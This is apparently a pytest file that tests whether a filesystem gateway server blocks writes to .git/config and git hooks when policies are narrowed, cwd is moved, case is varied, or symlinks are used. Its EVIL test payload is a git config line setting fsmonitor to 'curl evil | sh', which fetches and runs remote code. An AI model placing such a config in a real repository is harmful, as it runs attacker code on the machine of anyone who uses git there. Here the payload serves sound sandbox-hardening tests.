"""Protected paths are matched below the SERVER's roots (and every alias of them), whatever a
request's own policy narrows to: narrowing the writable set to ``.git`` or ``.git/hooks``,
or moving the cwd into ``.git``, must not turn ``.git/config`` into a plain ``config``."""
from __future__ import annotations

from pathlib import Path

import fsgate
import grpc
import pytest
from fsgate import Client, Policy

from ..conftest import ServerProcess, start_server
from ..helpers import snapshot

EVIL = b"[core]\n\tfsmonitor = curl evil | sh\n"


def _git(ws: Path) -> Path:
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / ".git" / "config").write_text("[core]\n")
    return ws / ".git"


def _refused(served_target: str, policy: Policy, path: str, *, create_parents: bool = False,
             ) -> None:
    with Client(served_target, policy=policy) as c, pytest.raises(fsgate.ProtectedPath) as err:
        c.write_file(path, EVIL, create_parents=create_parents)
    assert err.value.code is grpc.StatusCode.PERMISSION_DENIED
    assert err.value.reason == "PROTECTED_PATH"


def test_writable_root_narrowed_to_dot_git_cannot_overwrite_git_config(
        served: ServerProcess, ws: Path) -> None:
    git = _git(ws)
    before = snapshot(ws)
    _refused(served.target, Policy(writable_roots=[str(git)]), str(git / "config"))
    assert snapshot(ws) == before


def test_writable_root_narrowed_to_dot_git_cannot_create_a_hook(
        served: ServerProcess, ws: Path) -> None:
    git = _git(ws)
    before = snapshot(ws)
    _refused(served.target, Policy(writable_roots=[str(git)]), str(git / "hooks" / "pre-commit"))
    assert snapshot(ws) == before


def test_writable_root_narrowed_to_hooks_cannot_create_a_hook(
        served: ServerProcess, ws: Path) -> None:
    git = _git(ws)
    before = snapshot(ws)
    policy = Policy(writable_roots=[str(git / "hooks")])
    _refused(served.target, policy, str(git / "hooks" / "pre-commit"))
    _refused(served.target, policy, str(git / "hooks" / "sub" / "post-checkout"),
             create_parents=True)
    assert snapshot(ws) == before


@pytest.mark.parametrize("rel", ["config", "hooks/pre-commit", "./hooks/../config"])
def test_cwd_in_dot_git_with_writable_dot_cannot_write_protected_paths(
        served: ServerProcess, ws: Path, rel: str) -> None:
    git = _git(ws)
    before = snapshot(ws)
    _refused(served.target, Policy(writable_roots=["."], cwd=str(git)), rel)
    assert snapshot(ws) == before


def test_case_variant_of_a_narrowed_dot_git_is_still_protected(
        served: ServerProcess, ws: Path) -> None:
    _git(ws)
    (ws / ".GIT").mkdir()  # a case-insensitive file system would make this the same dir
    before = snapshot(ws)
    _refused(served.target, Policy(writable_roots=[str(ws / ".GIT")]), str(ws / ".GIT" / "CONFIG"))
    _refused(served.target, Policy(writable_roots=["."], cwd=str(ws / ".GIT")), "HOOKS/x",
             create_parents=True)
    assert snapshot(ws) == before


def test_symlink_inside_narrowed_dot_git_to_config_cannot_be_written(
        served: ServerProcess, ws: Path) -> None:
    """The lexical pre-check sees ``.git/innocent``; the helper judges the real target."""
    git = _git(ws)
    (git / "innocent").symlink_to("config")
    (git / "hook-link").symlink_to("hooks/pre-commit")  # dangling: would create the hook
    before = snapshot(ws)
    policy = Policy(writable_roots=[str(git)])
    _refused(served.target, policy, str(git / "innocent"))
    _refused(served.target, policy, str(git / "hook-link"))
    assert snapshot(ws) == before


def test_narrowed_dot_git_of_a_root_served_through_a_symlink_stays_protected(
        tmp_path: Path, backend: str) -> None:
    real = tmp_path / "real-ws"
    real.mkdir()
    git = _git(real)
    (git / "innocent").symlink_to("config")
    link = tmp_path / "link-ws"
    link.symlink_to(real)
    run = tmp_path / "run"
    run.mkdir()
    server = start_server(run, [str(link)], backend)
    try:
        before = snapshot(real)
        for name in (link, real):  # the root's own name and its real location
            policy = Policy(writable_roots=[str(name / ".git")])
            _refused(server.target, policy, str(name / ".git" / "config"))
            _refused(server.target, policy, str(name / ".git" / "hooks" / "pre-commit"))
            _refused(server.target, Policy(writable_roots=["."], cwd=str(name / ".git")),
                     "config")
        _refused(server.target, Policy(writable_roots=[str(real / ".git")]),
                 str(real / ".git" / "innocent"))
        assert snapshot(real) == before
    finally:
        server.stop()


def test_narrowed_writable_root_still_writes_unprotected_files_in_dot_git(
        served: ServerProcess, ws: Path) -> None:
    """Only the globs are protected: the rest of a narrowed ``.git`` stays writable."""
    git = _git(ws)
    with Client(served.target, policy=Policy(writable_roots=[str(git)])) as c:
        c.write_file(str(git / "description"), b"mine\n")
    assert (git / "description").read_bytes() == b"mine\n"
